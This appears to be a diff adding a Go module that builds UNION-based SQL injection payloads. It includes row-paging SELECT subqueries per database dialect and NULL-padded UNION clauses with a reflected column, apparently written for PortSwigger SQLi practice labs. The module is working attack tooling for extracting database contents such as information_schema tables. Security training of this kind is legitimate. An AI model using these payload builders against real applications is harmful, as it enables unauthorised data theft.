@@ -0,0 +1,174 @@
+package payload
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+)
+
+// Select builds a SELECT statement for one database dialect.
+// Builders are values, every method returns a modified copy, so a base query
+// can be shared between payloads:
+//
+//	tables := payload.NewSelect(db, "table_name").From("information_schema.tables")
+//	first := tables.Row(0).String()
+type Select struct {
+	db          constant.Database
+	expressions []string
+	table       string
+	where       []string
+	orderBy     string
+	offset      int // Row to select, -1 for every row
+}
+
+// NewSelect returns a builder selecting the given expressions.
+func NewSelect(db constant.Database, expressions ...string) Select {
+	return Select{db: db, expressions: expressions, offset: -1}
+}
+
+// From sets the table. Without one, databases that need it select from their dual table.
+func (s Select) From(table string) Select {
+	s.table = table
+	return s
+}
+
+// Where adds a condition, conditions are joined with AND.
+func (s Select) Where(condition string) Select {
+	if condition != "" {
+		s.where = append(slices.Clone(s.where), condition)
+	}
+	return s
+}
+
+// OrderBy sets the ORDER BY expression used when paging, the first column by default.
+func (s Select) OrderBy(expression string) Select {
+	s.orderBy = expression
+	return s
+}
+
+// Row limits the result to the row at offset, using the database's paging style.
+// Rows are ordered so repeated requests page through the same sequence.
+func (s Select) Row(offset int) Select {
+	s.offset = offset
+	return s
+}
+
+func (s Select) String() string {
+	if s.offset < 0 {
+		return s.plain()
+	}
+
+	orderBy := s.orderBy
+	if orderBy == "" {
+		orderBy = "1"
+	}
+	switch s.db.Paging {
+	case constant.PAGING_ROWNUM:
+		inner := fmt.Sprintf("SELECT %s AS qzx_v%s%s ORDER BY %s", s.expressions[0], s.db.From(s.table), s.whereClause(), orderBy)
+		return fmt.Sprintf("SELECT qzx_v FROM (SELECT qzx_v, ROWNUM AS qzx_rn FROM (%s)) WHERE qzx_rn=%d", inner, s.offset+1)
+	case constant.PAGING_OFFSET_FETCH:
+		return fmt.Sprintf("%s ORDER BY %s OFFSET %d ROWS FETCH NEXT 1 ROWS ONLY", s.plain(), orderBy, s.offset)
+	default:
+		return fmt.Sprintf("%s ORDER BY %s LIMIT 1 OFFSET %d", s.plain(), orderBy, s.offset)
+	}
+}
+
+// Subquery returns the statement in parentheses, ready to be used as a scalar expression.
+func (s Select) Subquery() string {
+	return "(" + s.String() + ")"
+}
+
+// Count returns a statement counting the selected rows, cast to a string.
+func (s Select) Count() Select {
+	return NewSelect(s.db, s.db.CastToString("COUNT(*)")).From(s.derived())
+}
+
+// Aggregate returns a statement joining the first expression of every selected row
+// into one string with the database's aggregate function.
+func (s Select) Aggregate(separator string) Select {
+	return NewSelect(s.db, fmt.Sprintf(s.db.AggregateFunction, "qzx_v", s.db.Quote(separator))).From(s.derived())
+}
+
+// derived wraps the statement as a derived table whose first column is named qzx_v.
+func (s Select) derived() string {
+	expressions := slices.Clone(s.expressions)
+	expressions[0] += " AS qzx_v"
+	inner := s
+	inner.expressions = expressions
+	inner.offset = -1
+	return "(" + inner.plain() + ") qzx_t"
+}
+
+func (s Select) plain() string {
+	return "SELECT " + strings.Join(s.expressions, ",") + s.db.From(s.table) + s.whereClause()
+}
+
+func (s Select) whereClause() string {
+	if len(s.where) == 0 {
+		return ""
+	}
+	return " WHERE " + strings.Join(s.where, " AND ")
+}
+
+// Union builds the UNION SELECT clause appended to the vulnerable query. Every column
+// is NULL except the ones set, so the types match whatever the original query returns.
+type Union struct {
+	db        constant.Database
+	columns   []string
+	reflected int
+	table     string
+	where     []string
+}
+
+// NewUnion returns a builder for a query with the given number of columns,
+// reflecting values in the first column.
+func NewUnion(db constant.Database, numOfColumns int) Union {
+	columns := make([]string, numOfColumns)
+	for i := range columns {
+		columns[i] = "NULL"
+	}
+	return Union{db: db, columns: columns}
+}
+
+// Reflect chooses the column whose value is shown in the page.
+func (u Union) Reflect(column int) Union {
+	u.reflected = column
+	return u
+}
+
+// Select places the expression in the reflected column.
+func (u Union) Select(expression string) Union {
+	return u.Column(u.reflected, expression)
+}
+
+// Column places the expression in the given 0-based column.
+func (u Union) Column(column int, expression string) Union {
+	u.columns = slices.Clone(u.columns)
+	u.columns[column] = expression
+	return u
+}
+
+// From sets the table. Without one, databases that need it select from their dual table.
+func (u Union) From(table string) Union {
+	u.table = table
+	return u
+}
+
+// Where adds a condition, conditions are joined with AND.
+func (u Union) Where(condition string) Union {
+	if condition != "" {
+		u.where = append(slices.Clone(u.where), condition)
+	}
+	return u
+}
+
+// String renders the clause with a leading space, ready for Boundary.Wrap.
+func (u Union) String() string {
+	clause := " UNION SELECT " + strings.Join(u.columns, ",") + u.db.From(u.table)
+	if len(u.where) > 0 {
+		clause += " WHERE " + strings.Join(u.where, " AND ")
+	}
+	return clause
+}